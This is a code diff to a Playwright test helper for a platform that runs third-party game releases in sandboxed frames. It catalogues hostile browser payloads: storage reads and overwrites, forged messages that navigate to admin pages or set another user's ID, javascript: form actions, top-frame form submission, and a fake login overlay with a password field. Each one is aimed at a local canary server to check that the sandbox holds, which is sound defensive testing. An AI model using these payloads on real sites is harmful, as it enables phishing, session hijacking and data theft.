@@ -1,15 +1,33 @@
+import { execFileSync } from 'node:child_process';
+import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
+import { join } from 'node:path';
+import { expect, type Page } from '@playwright/test';
+import type { RemoteEntry } from '@venture/contract/remotes';
+import { hashOf } from '../list';
+import { newFolder, remoteFolder } from './checkout';
 
 /** Counts whoever gets through to it: an address that no release may reach. */
-export type Canary = { readonly address: string; readonly reached: string[]; readonly close: () => void };
+export type Canary = {
+  readonly address: string;
+  /** What was asked for. */
+  readonly reached: string[];
+  /** How many connected, whether they then asked for something or not. */
+  readonly connections: () => number;
+  readonly close: () => void;
+};
 
 export async function canary(): Promise<Canary> {
   const reached: string[] = [];
+  let connected = 0;
   const server: Server = createServer((request, response) => {
     reached.push(request.url ?? '');
     response
       .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
       .end('1');
+  });
+  server.on('connection', () => {
+    connected += 1;
   });
   await new Promise<void>((resolve) => {
     server.listen(0, '127.0.0.1', resolve);
@@ -18,11 +36,18 @@ export async function canary(): Promise<Canary> {
     server.close();
     server.closeAllConnections();
   };
-  return { address: `http://127.0.0.1:${Object(server.address()).port}`, reached, close };
+  const address = `http://127.0.0.1:${Object(server.address()).port}`;
+  return { address, reached, connections: () => connected, close };
 }
 
 /** What a page of the platform has, and no release may read or change. */
 export const SECRET = { key: 'entrepre-puzzle.secret', text: 'of another remote' };
+
+/** Runs in the page, before the release does. */
+export function plantSecret({ key, text }: typeof SECRET) {
+  localStorage.setItem(key, text);
+  sessionStorage.setItem(key, text);
+}
 
 /** Loads something by an element, and says whether it came. */
 const load = (tag: string, attributes: string) =>
@@ -32,6 +57,13 @@ const clicked = (attributes: string) =>
 /** A page within the page, and what of it can be reached. */
 const nested = (attributes: string, what: string) =>
   `new Promise((yes) => { const inner = Object.assign(document.createElement('iframe'), { ${attributes} }); inner.onload = () => { try { yes(${what}) } catch { yes(false) } }; document.body.append(inner); setTimeout(() => yes(false), 800) })`;
+
+/** How a release reaches people, and who opens it: each way and each role once. */
+export const REACHED = [
+  { way: 'live', role: 'student' },
+  { way: 'in a rollout', role: 'instructor' },
+  { way: 'in a preview', role: 'admin' },
+] as const;
 
 /** What works and harms nobody: whoever goes back stays on the page for one step more. */
 export const HARMLESS = 'adds a step to the history';
@@ -48,7 +80,7 @@ export const ATTEMPTS: Readonly<Record<string, string>> = {
   'writes a value of another remote': `(localStorage.setItem('${SECRET.key}', 'mine'), false)`,
   'clears all that is stored': `(localStorage.clear(), sessionStorage.clear(), false)`,
   'logs somebody else in': `(localStorage.setItem('userId', 'mine'), false)`,
-  'reads the session storage of the page': `sessionStorage.getItem('secret')`,
+  'reads the session storage of the page': `sessionStorage.getItem('${SECRET.key}') !== null`,
   'opens a database': `new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes(true); open.onerror = no })`,
   'opens the caches': `caches.open('venture-page').then(() => true)`,
   'asks for stored things of the site': `document.requestStorageAccess().then(() => document.cookie !== '')`,
@@ -78,6 +110,7 @@ export const ATTEMPTS: Readonly<Record<string, string>> = {
   'loads a font': `new FontFace('mine', 'url(CANARY/font)').load().then(() => true)`,
   preloads: load('link', `rel: 'preload', as: 'script', href: 'CANARY/preload'`),
   prefetches: load('link', `rel: 'prefetch', href: 'CANARY/prefetch'`),
+  'connects before it asks': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'CANARY' })), false)`,
   'loads a manifest': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: 'CANARY/manifest' })), false)`,
   'loads an icon': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: 'CANARY/icon' })), false)`,
   'loads a script': load('script', `src: 'CANARY/script'`),
@@ -102,8 +135,9 @@ export const ATTEMPTS: Readonly<Record<string, string>> = {
   ),
   'frames a script': nested(`srcdoc: '<script>parent.postMessage("ran", "*")</script>'`, 'false'),
   'frames code by an address': nested(`src: 'javascript:parent.postMessage("ran", "*")'`, 'false'),
-  'submits a form': `(() => { const form = Object.assign(document.createElement('form'), { action: 'CANARY/form', method: 'post' }); document.body.append(form); form.submit(); return false })()`,
   'submits a form to a new window': `(() => { const form = Object.assign(document.createElement('form'), { action: 'CANARY/form-window', target: '_blank' }); document.body.append(form); form.submit(); return false })()`,
+  'submits a form to the page around': `(document.body.insertAdjacentHTML('beforeend', '<form id="topmost" target="_top" action="CANARY/form-top"></form>'), document.getElementById('topmost').requestSubmit(), false)`,
+  'submits a form that runs code': `(document.body.insertAdjacentHTML('beforeend', '<form id="code" action="javascript:postMessage(\\'ran\\')"></form>'), document.getElementById('code').submit(), false)`,
   'opens a window': `Boolean(open('CANARY/window'))`,
   'follows a link to a new window': clicked(`href: 'CANARY/link', target: '_blank'`),
   'follows a link of the whole page': clicked(`href: 'CANARY/top-link', target: '_top'`),
@@ -134,14 +168,139 @@ export const LEAVING: Readonly<Record<string, string>> = {
   'goes elsewhere': `location.href = 'CANARY/self'`,
   'goes to a page of the platform': `location.href = new URL('/', PAGE).href`,
   'refreshes to elsewhere': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=CANARY/refresh">')`,
-  'writes its document anew': `document.open(), document.write('<form action="CANARY/form"><input type="password" autofocus></form>'), document.close()`,
+  'writes its document anew': `document.open(), document.write('<form action="CANARY/form"><input type="password" autofocus></form>'), document.close(), document.forms[0].submit()`,
+  'submits a form': `const form = Object.assign(document.createElement('form'), { action: 'CANARY/form', method: 'post' }); document.body.append(form); form.submit()`,
+  'submits a form by its button': `document.body.insertAdjacentHTML('beforeend', '<form id="sent" method="post"><button formaction="CANARY/button">x</button></form>'); document.querySelector('#sent button').click()`,
   downloads: `${clicked(`href: 'data:text/plain,x', download: 'x.txt'`)}`,
+};
+
+/** What it says in the right form about what is not its own: nothing of it takes effect. */
+export const FORGED: Readonly<Record<string, unknown>> = {
+  'a value of another remote': { type: 'save', key: SECRET.key, text: 'mine' },
+  'a value of the platform': { type: 'save', key: 'userId', text: 'mine' },
+  'a result of another game': {
+    type: 'event',
+    event: {
+      kind: 'run',
+      id: '00000000-0000-4000-8000-000000000001',
+      at: '2026-01-01T00:00:00.000Z',
+      game: 'entrepre-puzzle',
+      rules: 1,
+      seed: 1,
+      score: 500,
+      facts: {},
+      timing: 'x1',
+    },
+  },
+  'an event that is none': { type: 'event', event: { kind: 'run', id: 'x' } },
+  'settings that are none': { type: 'settings', settings: { timing: { evil: true }, sound: 'loud' } },
+  'a page of admins': { type: 'navigate', to: '/admin/users', replace: true },
+  'a preview': { type: 'navigate', to: '/preview/cash-stack/9.9.9', replace: true },
+  'a file of the platform': { type: 'ask', id: 1, question: { what: 'file', address: '/api/v1/me' } },
+  'the play of another game': {
+    type: 'ask',
+    id: 2,
+    question: { what: 'run', run: '00000000-0000-4000-8000-000000000001' },
+  },
+};
+
+/** What ends a frame at once. */
+export const BROKEN: Readonly<Record<string, string>> = {
+  'says what no frame may say': `say({ type: 'logout' })`,
+  'names another address': `say({ type: 'navigate', to: 'https://x.example/', replace: true })`,
+  'speaks to the window around it': `parent.postMessage('mine', '*')`,
+  'says something that is no text': `postMessage.call(ports[0], { type: 'shown' })`,
+  'says too much at once': `for (let at = 0; at < 1e5; at += 1) say({ type: 'alive' })`,
+  'says something too large': `say({ type: 'save', key: 'cash-stack.x', text: 'x'.repeat(4e5) })`,
+  'throws in its page': `say({ type: 'failed', reason: 'mine' })`,
 };
 
 const NAME = 'venture_cash_stack_hostile';
 export const HOSTILE = { global: NAME, entry: 'js/remoteEntry.js', key: 'cash-stack.report' };
 
-/** A release that tries all of it, and then keeps as its own value what worked. */
+/** What a frame may keep, and a preview may not: a value of its own, and what it says are the learner's settings. */
+export const KEPT = { [HOSTILE.key]: '1', 'venture.settings': '{"timing":"x2","sound":true}' };
+
+/** The entry of a live release with this one in its place, whose only file is the container. */
+export function hostileRelease({ base, version }: RemoteEntry, source: string) {
+  return {
+    ...{ version: '9.9.9', base: base.replace(version, '9.9.9'), later: false },
+    ...{ global: HOSTILE.global, entry: HOSTILE.entry, preload: [], previous: undefined },
+    files: { [HOSTILE.entry]: hashOf(source) },
+  };
+}
+
+/** Stores this release as a team would, live for nobody; answers its version. Who is logged in has to be an admin. */
+export async function storeHostile({ request }: Pick<Page, 'request'>, source: string): Promise<string> {
+  const version = `9.9.9-${Date.now()}`;
+  const folder = newFolder('hostile');
+  const dist = join(remoteFolder('cash-stack'), 'dist');
+  cpSync(dist, folder, { recursive: true });
+  const file = join(folder, 'release.json');
+  const release = JSON.parse(readFileSync(file, 'utf8')) as RemoteEntry;
+  const files = { ...release.files, [HOSTILE.entry]: hashOf(source) };
+  writeFileSync(join(folder, HOSTILE.entry), source);
+  writeFileSync(file, JSON.stringify({ ...release, version, files, global: NAME, preload: [] }));
+  const data = execFileSync('sh', ['-c', 'tar -czf - *'], { cwd: folder });
+  rmSync(folder, { recursive: true });
+  const address = `/api/v1/remotes/cash-stack/releases/${version}`;
+  const stored = await request.put(address, { data, headers: { 'Content-Type': 'application/gzip' } });
+  expect(await stored.json()).toMatchObject({ state: 'stored' });
+  return version;
+}
+
+/** A release whose page does this once it is shown, and has a port to the page around: what speaks there is taken over. */
+export const acting = (code: string) => `var ${NAME} = (() => {
+  const PAGE = document.baseURI;
+  const ports = [];
+  const { postMessage } = MessagePort.prototype;
+  MessagePort.prototype.postMessage = function (...args) {
+    ports.push(this);
+    if (String(args[0]).includes('"shown"')) setTimeout(act, 100);
+    return postMessage.apply(this, args);
+  };
+  const act = () => { ${code} };
+  localStorage.setItem('cash-stack.first', '1');
+  const say = (message) => postMessage.call(ports[0], typeof message === 'string' ? message : JSON.stringify(message));
+  const pages = { '/cash-stack': () => 'Hostile.' };
+  return { init() {}, get: () => Promise.resolve(() => ({ pages })) };
+})();`;
+
+/** Not hostile: a page with a form that it takes care of by itself. */
+export const WITH_FORM = acting(`
+  document.body.insertAdjacentHTML('beforeend', '<form><input><button>Send</button></form>');
+  const [form] = document.forms;
+  form.addEventListener('submit', (event) => {
+    event.preventDefault();
+    say({ type: 'save', key: 'cash-stack.did', text: '1' });
+  });
+  form.requestSubmit()`);
+
+/** Leads its frame away, and then says that it is still there. */
+export const leaving = (code: string, { address }: Canary) =>
+  acting(
+    `try { ${code.replaceAll('CANARY', address)} } finally { say({ type: 'save', key: 'cash-stack.did', text: '1' }) }`,
+  );
+
+/** Says all that is forged, and then that it did. */
+export const FORGING = acting(
+  `${Object.values(FORGED)
+    .map((message) => `say(${JSON.stringify(message)});`)
+    .join(' ')} say({ type: 'save', key: 'cash-stack.did', text: '1' })`,
+);
+
+/** Looks like the page in which people log in, and goes over all that a frame can cover. */
+export const IMITATING = acting(`
+  const cover = 'position: fixed; inset: 0; width: 100vw; height: 100vh; max-width: none; max-height: none; border: 0';
+  document.body.insertAdjacentHTML('beforeend',
+    '<dialog id="cover" style="' + cover + '"><h1>Welcome back</h1><input type="password"></dialog><p id="foot" tabindex="0" style="margin-top: 300vh">Foot</p>');
+  for (const block of ['start', 'end']) document.getElementById('foot').scrollIntoView({ block });
+  document.getElementById('foot').focus();
+  document.getElementById('cover').showModal();
+  document.getElementById('cover').scrollIntoView({ block: 'start' });
+  say({ type: 'modal', isOpen: true })`);
+
+/** A release that tries all of it, and then says what worked: in its own query, since a preview keeps nothing. */
 export function hostileEntry({ address }: Canary, page: string, without = /^$/): string {
   const attempts = Object.entries(ATTEMPTS).filter(([name]) => !without.test(name));
   const table = attempts.map(
@@ -150,6 +309,7 @@ export function hostileEntry({ address }: Canary, page: string, without = /^$/):
   return `var ${NAME} = (() => {
     const PAGE = ${JSON.stringify(page)};
     const heard = [];
+    const who = localStorage.getItem('userId');
     addEventListener('message', ({ data }) => heard.push(data));
     const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 1500))]);
     const attempts = { ${table.join(',\n')} };
@@ -159,10 +319,19 @@ export function hostileEntry({ address }: Canary, page: string, without = /^$/):
         try { if (await within(Promise.resolve().then(attempt))) worked.push(name) } catch {}
       }));
       if (heard.includes('ran')) worked.push('runs code in a frame');
-      const who = localStorage.getItem('userId');
-      localStorage.setItem('${HOSTILE.key}', JSON.stringify({ worked: worked.sort(), who, origin: String(globalThis.origin) }));
+      Object.assign(localStorage, ${JSON.stringify(KEPT)});
+      const said = new URLSearchParams({ who, origin: globalThis.origin });
+      for (const name of worked.sort().slice(0, 40)) said.append('worked', name);
+      document.body.append(Object.assign(document.createElement('a'), { href: '#/cash-stack?' + said, id: 'report' }));
+      document.getElementById('report').click();
     }
     const pages = { '/cash-stack': () => { if (!globalThis.began) { globalThis.began = true; void attack(); } return 'Hostile.'; } };
     return { init() {}, get: () => Promise.resolve(() => ({ pages })) };
   })();`;
+}
+
+/** What it says there, as soon as it has. */
+export function reportIn(hash: string) {
+  const said = new URLSearchParams(hash.split('?')[1]);
+  return { who: said.get('who'), origin: said.get('origin'), worked: said.getAll('worked') };
 }
